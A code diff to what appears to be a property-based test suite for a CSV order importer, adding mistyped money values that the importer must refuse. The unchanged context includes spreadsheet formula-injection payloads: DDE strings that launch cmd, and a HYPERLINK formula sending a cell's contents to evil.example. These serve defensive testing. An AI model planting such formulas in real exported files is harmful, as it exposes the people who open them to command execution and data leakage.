@@ -40,10 +40,15 @@ const col = (name: string) => {
 
 const INJECTIONS = ["=cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?x="&A1,"click")'];
 
+/** Money cells with a letter where a digit belongs (a letter O for a zero, an l for a one) or stray text. */
+const MISTYPED = ['12,5O', '39.9O', '1O.00', 'l2.50', '$39.9O', 'USD 1O.00', '39.90 O', '3 9.9O', '39.90x', '39,90 EURO'];
+
 /** One hostile row: which cell, what it holds, and whether the row must be refused (else imported unattributed). */
 type Mutation = { column: string; value: string; refused: boolean; unbalanced?: boolean };
 const mutation: fc.Arbitrary<Mutation> = fc.oneof(
-  fc.constantFrom('1e308', '99999999999999999999', 'NaN', 'Infinity', '-39.90', '($39.90)', '39.905', '=1+1', '@SUM(A1)', 'XXX 39.90', '39.90 ZZZ', '$-39.90', ...INJECTIONS).map((value) => ({ column: 'SKU Subtotal After Discount', value, refused: true })),
+  fc.constantFrom('1e308', '99999999999999999999', 'NaN', 'Infinity', '-39.90', '($39.90)', '39.905', '=1+1', '@SUM(A1)', 'XXX 39.90', '39.90 ZZZ', '$-39.90', ...MISTYPED, ...INJECTIONS).map((value) => ({ column: 'SKU Subtotal After Discount', value, refused: true })),
+  // A letter typed for a digit in any money cell is refused, never read as the digit or dropped.
+  fc.constantFrom('Order Amount', 'Order Refund Amount', 'Taxes').chain((column) => fc.constantFrom(...MISTYPED).map((value) => ({ column, value, refused: true }))),
   fc.constantFrom(...INJECTIONS, 'АВС576461413038785', '5764614130387857５2', 'x'.repeat(10_000)).map((value) => ({ column: 'Order ID', value, refused: true })),
   fc.constantFrom('31/31/2026 9:07:33 PM', '=NOW()', 'NaN', '10/01/99999 9:07:33 PM', ...INJECTIONS).map((value) => ({ column: 'Created Time', value, refused: true })),
   fc.constantFrom('Delivered\u200b', 'Dеlivered', ...INJECTIONS).map((value) => ({ column: 'Order Status', value, refused: true })),
